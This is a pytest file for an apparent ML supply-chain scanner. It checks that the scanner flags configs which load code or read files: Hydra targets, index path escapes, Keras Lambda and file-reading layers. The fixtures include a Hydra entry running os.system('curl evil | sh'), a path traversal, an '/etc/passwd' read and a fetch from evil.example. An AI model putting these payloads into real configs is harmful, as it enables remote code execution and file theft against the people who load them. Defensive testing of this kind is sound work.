"""Issue 21, class 6 (part): configs that load code or files. Hydra `_target_` anywhere in a JSON or
YAML config (a framework's own class LOW, anything else classified as an import, os.system critical),
a sharded index whose weight_map leaves the folder, and a config over the size the scanner reads,
which is reported, never passed as clean."""

from __future__ import annotations

import json

import pytest

from mlaudit.findings import Severity
from mlaudit.supplychain.scan import scan_paths


def _issues(path) -> dict[str, Severity]:
    (r,) = scan_paths([path])
    assert r.error is None, r.error
    return {i.rule + ":" + i.message.split(":")[0]: i.severity for i in r.issues}


@pytest.mark.parametrize("suffix", [".json", ".yaml"])
def test_a_hydra_target_outside_the_framework_is_flagged(tmp_path, suffix):
    doc = {"model": {"encoder": {"_target_": "nemo.collections.asr.modules.ConvASREncoder", "feat_in": 80}},
           "hooks": [{"cb": {"_target_": "os.system", "_args_": ["curl evil | sh"]}}]}  # fmt: skip
    path = tmp_path / f"model_config{suffix}"
    if suffix == ".json":
        path.write_text(json.dumps(doc))
    else:
        import yaml

        path.write_text(yaml.safe_dump(doc))
    issues = _issues(path)
    assert issues["config/hydra-target:_target_ 'os.system'"] == Severity.CRITICAL
    assert issues["config/hydra-target:_target_ 'nemo.collections.asr.modules.ConvASREncoder'"] == Severity.LOW


def test_an_index_that_sends_tensors_outside_the_folder_is_flagged(tmp_path):
    index = {"metadata": {"total_size": 8}, "weight_map": {"a.weight": "model-00001-of-00002.safetensors",
             "b.weight": "../../home/user/.cache/evil.bin"}}  # fmt: skip
    (tmp_path / "model.safetensors.index.json").write_text(json.dumps(index))
    issues = _issues(tmp_path / "model.safetensors.index.json")
    assert [s for k, s in issues.items() if k.startswith("index/path-escape")] == [Severity.HIGH]
    index["weight_map"]["b.weight"] = "model-00002-of-00002.safetensors"
    (tmp_path / "model.safetensors.index.json").write_text(json.dumps(index))
    assert _issues(tmp_path / "model.safetensors.index.json") == {}


def test_a_config_too_large_to_read_is_not_clean(tmp_path):
    path = tmp_path / "config.json"
    with open(path, "w") as f:
        f.write('{"a": "' + " " * (64 << 20) + '"}')
    (r,) = scan_paths([path])
    assert [(i.rule, i.severity) for i in r.issues] == [("config/unchecked", Severity.MEDIUM)]
    assert f"a {path.stat().st_size}-byte config file" in r.issues[0].message


def _keras_config(layers: list[dict]) -> dict:
    return {"class_name": "Sequential", "module": "keras", "config": {"name": "s", "layers": layers}}


_LAMBDA = {"class_name": "Lambda", "module": "keras.layers", "config": {"name": "l", "function": "x"}}
_DENSE = {"class_name": "Dense", "module": "keras.layers", "config": {"name": "d", "units": 2}}


@pytest.mark.parametrize("layout", ["keras-zip-without-weights", "keras-zip-other-weights", "keras-3-folder"])
def test_a_keras_config_is_recognised_by_its_content(tmp_path, layout):
    """Class 5/6: keras loads config.json whether or not the zip has model.weights.h5, and from a Keras 3
    folder; the Lambda layer is found in each, the Dense-only twin is clean."""
    import zipfile

    for layers, bad in (([_DENSE, _LAMBDA], True), ([_DENSE], False)):
        raw = json.dumps(_keras_config(layers)).encode()
        if layout == "keras-3-folder":
            folder = tmp_path / f"m{bad}"
            folder.mkdir()
            (folder / "config.json").write_bytes(raw)
            (folder / "model.weights.h5").write_bytes(b"")
            results = scan_paths([folder])
        else:
            path = tmp_path / f"m{bad}.keras"
            with zipfile.ZipFile(path, "w") as z:
                z.writestr("config.json", raw)
                z.writestr("metadata.json", json.dumps({"keras_version": "3.5.0"}))
                if layout == "keras-zip-other-weights":
                    z.writestr("variables.bin", b"\0" * 16)
            results = scan_paths([path])
        lambdas = [i for r in results for i in r.issues if i.rule == "keras/lambda"]
        assert bool(lambdas) == bad, (layout, bad, [r.to_dict() for r in results])


@pytest.mark.parametrize(
    "layer,severity",
    [
        ({"class_name": "TFSMLayer", "config": {"name": "t", "filepath": "gs://bucket/saved_model"}}, Severity.HIGH),
        ({"class_name": "TextVectorization", "config": {"name": "v", "vocabulary": "/etc/passwd"}}, Severity.MEDIUM),
        (
            {"class_name": "StringLookup", "config": {"name": "s", "vocabulary": "https://evil.example/v.txt"}},
            Severity.HIGH,
        ),  # fmt: skip
        ({"class_name": "StringLookup", "config": {"name": "s", "vocabulary": ["a", "b"]}}, None),
    ],
)
def test_keras_layers_that_read_or_fetch_files_are_flagged(tmp_path, layer, severity):
    path = tmp_path / "config.json"
    path.write_text(json.dumps(_keras_config([_DENSE, layer])))
    (r,) = scan_paths([path])
    found = [i.severity for i in r.issues if i.rule in ("keras/loads-program", "keras/file-setting")]
    assert found == ([severity] if severity else []), r.to_dict()


def test_custom_pipelines_are_flagged_like_auto_map(tmp_path):
    path = tmp_path / "config.json"
    path.write_text(json.dumps({"model_type": "bert", "custom_pipelines": {"x": {"impl": "pipe.MyPipeline"}}}))
    (r,) = scan_paths([path])
    assert {i.rule: i.severity for i in r.issues}.get("hf/custom-pipelines") == Severity.HIGH
    path.write_text(json.dumps({"model_type": "bert"}))
    (r,) = scan_paths([path])
    assert r.worst < Severity.MEDIUM
